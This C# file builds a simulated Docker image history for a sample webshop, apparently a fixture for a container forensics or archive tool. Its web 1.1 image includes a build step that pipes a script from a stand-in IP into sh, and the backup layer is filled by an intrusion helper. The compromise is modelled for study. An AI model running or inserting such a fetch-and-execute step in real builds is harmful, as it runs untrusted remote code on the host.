using SampleRecipes.Archive;

namespace SampleRecipes.Webshop;

/// <summary>The shop's images: a pulled base, two versions of the web server, a database, a backup, a failed build.</summary>
internal sealed class WebshopImages
{
    public const string BaseName = "registry.example.com:5000/base";
    public const string Path = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

    private const string Maintainer = "Shop Operations <ops@example.com>";
    private static readonly string[] ServeApache = ["apache2ctl", "-D", "FOREGROUND"];
    private readonly Host _host;
    private ImageRecord _maintained;
    private ImageRecord _apache;

    public WebshopImages(Host host)
    {
        _host = host;
        Base = Pull();
        (_maintained, Db) = BuildDatabase();
        (_apache, Web10) = BuildWeb10();
        Web11 = BuildWeb11();
        (FailedTop, FailedConfig) = BuildReport();
        Backup = CommitBackup();
    }

    public ImageRecord Base { get; }
    public ImageRecord Db { get; }
    public ImageRecord Web10 { get; }
    public ImageRecord Web11 { get; }
    public ImageRecord Backup { get; }

    /// <summary>The last image of the build that failed: it has no name.</summary>
    public ImageRecord FailedTop { get; }

    /// <summary>What the failed build had gathered, for the container of the step that failed.</summary>
    public RunConfig FailedConfig { get; }

    private ImageRecord Pull()
    {
        Stamp pulled = Stamp.Parse("2015-05-20T09:02:13.440912006Z");
        string author = Ids.For("build/base/1");
        var config = new RunConfig { Hostname = author[..12] };
        var bottom = new ImageRecord
        {
            Id = Ids.For("image/base/1"),
            Created = Stamp.Parse("2015-05-11T22:10:04.118452Z"),
            Container = author,
            ContainerConfig = config with { Command = ["/bin/sh", "-c", $"#(nop) ADD file:{Ids.For("base/rootfs")} in /"] },
            Config = config,
            EngineVersion = "1.6.0",
        };
        _host.AddPulled(bottom, pulled, WebshopTrees.FillBase);
        var top = bottom with
        {
            Id = Ids.For("image/base/2"),
            Ancestors = [bottom.Id],
            Created = Stamp.Parse("2015-05-11T22:10:05.90117308Z"),
            Container = Ids.For("build/base/2"),
            ContainerConfig = config with { Command = ["/bin/sh", "-c", "#(nop) CMD [\"/bin/bash\"]"], Image = bottom.Id },
            Config = config with { Command = ["/bin/bash"], Image = bottom.Id },
        };
        _host.AddPulled(top, pulled.AddMicroseconds(308_117));
        return top;
    }

    private ImageBuild Start(string label, ImageRecord from) => new(_host, label, from) { Author = Maintainer };

    private (ImageRecord Maintained, ImageRecord Top) BuildDatabase()
    {
        ImageBuild build = Start("db", Base with { Config = Base.Config with { Env = [Path] } });
        build.Nop(Stamp.Parse("2015-05-20T09:10:02.711306440Z"), "MAINTAINER " + Maintainer);
        ImageRecord maintained = build.Top;
        Stamp installed = Stamp.Parse("2015-05-20T09:11:47.06115082Z");
        build.Run(installed, "apt-get update && apt-get install -y mysql-server", layer => WebshopTrees.FillMySql(layer, installed));
        build.Nop(Stamp.Parse("2015-05-20T09:11:48.330412279Z"), "VOLUME [/var/lib/mysql]",
            config => config with { Volumes = ["/var/lib/mysql"] });
        build.Nop(Stamp.Parse("2015-05-20T09:11:48.902771631Z"), "EXPOSE 3306/tcp", config => config with { ExposedPorts = ["3306/tcp"] });
        build.Nop(Stamp.Parse("2015-05-20T09:11:49.400186957Z"), "CMD [\"mysqld_safe\"]", config => config with { Command = ["mysqld_safe"] });
        return (maintained, build.Top);
    }

    // The first step is the database's too: the builder found it in its cache.
    private (ImageRecord Apache, ImageRecord Top) BuildWeb10()
    {
        ImageBuild build = Start("web-1.0", _maintained);
        Stamp installed = Stamp.Parse("2015-05-20T09:14:31.884020417Z");
        build.Run(installed, "apt-get install -y apache2 php5", layer => WebshopTrees.FillApache(layer, installed));
        ImageRecord apache = build.Top;
        Stamp copied = Stamp.Parse("2015-05-20T09:14:33.120775138Z");
        AddShop(build, copied, "shop 1.0");
        FinishWeb(build, copied, "ENV SHOP_ENV=production", "SHOP_ENV=production");
        return (apache, build.Top);
    }

    private ImageRecord BuildWeb11()
    {
        ImageBuild build = Start("web-1.1", _apache);
        Stamp dropped = Stamp.Parse("2015-06-10T14:21:09.557318204Z");
        build.Run(dropped, "curl -s http://192.0.2.44/i.sh | sh", layer => WebshopTrees.FillDropped(layer, dropped));
        Stamp copied = Stamp.Parse("2015-06-10T14:21:10.690114873Z");
        AddShop(build, copied, "shop 1.1");
        FinishWeb(build, copied, "ENV SHOP_API_KEY=FAKE-key-0123456789", "SHOP_API_KEY=FAKE-key-0123456789");
        return build.Top;
    }

    private static void AddShop(ImageBuild build, Stamp copied, string version) =>
        build.Nop(copied, $"COPY dir:{Ids.For(version)} in /var/www/shop", fill: layer => WebshopTrees.FillShop(layer, copied, version));

    private static void FinishWeb(ImageBuild build, Stamp after, string envStep, string variable)
    {
        build.Nop(after.AddMicroseconds(518_402), envStep, config => config with { Env = [.. config.Env!, variable] });
        build.Nop(after.AddMicroseconds(1_040_377), "EXPOSE 80/tcp", config => config with { ExposedPorts = ["80/tcp"] });
        build.Nop(after.AddMicroseconds(1_553_919), "CMD [\"apache2ctl\" \"-D\" \"FOREGROUND\"]",
            config => config with { Command = ServeApache });
    }

    private (ImageRecord Top, RunConfig Config) BuildReport()
    {
        ImageBuild build = Start("report", Web11);
        build.Nop(Stamp.Parse("2015-06-13T09:40:13.217540916Z"), "WORKDIR /srv/report", config => config with { WorkingDir = "/srv/report" });
        return (build.Top, build.Top.Config with { Image = build.Top.Id });
    }

    // docker commit: one more layer, what the container had changed by then; its run-time configuration goes along.
    private ImageRecord CommitBackup()
    {
        RunConfig config = WebshopContainers.WebConfig(Web11);
        Stamp created = Stamp.Parse("2015-06-12T02:52:40.083311764Z");
        var backup = new ImageRecord
        {
            Id = Ids.For("image/backup"),
            Ancestors = [Web11.Id, .. Web11.Ancestors],
            Created = created,
            Comment = "nightly backup",
            Author = "root",
            Container = WebshopContainers.WebId,
            ContainerConfig = config,
            Config = config,
        };
        _host.AddBuilt(backup, layer => WebshopIntrusion.Fill(layer, throughTar: true));
        return backup;
    }
}
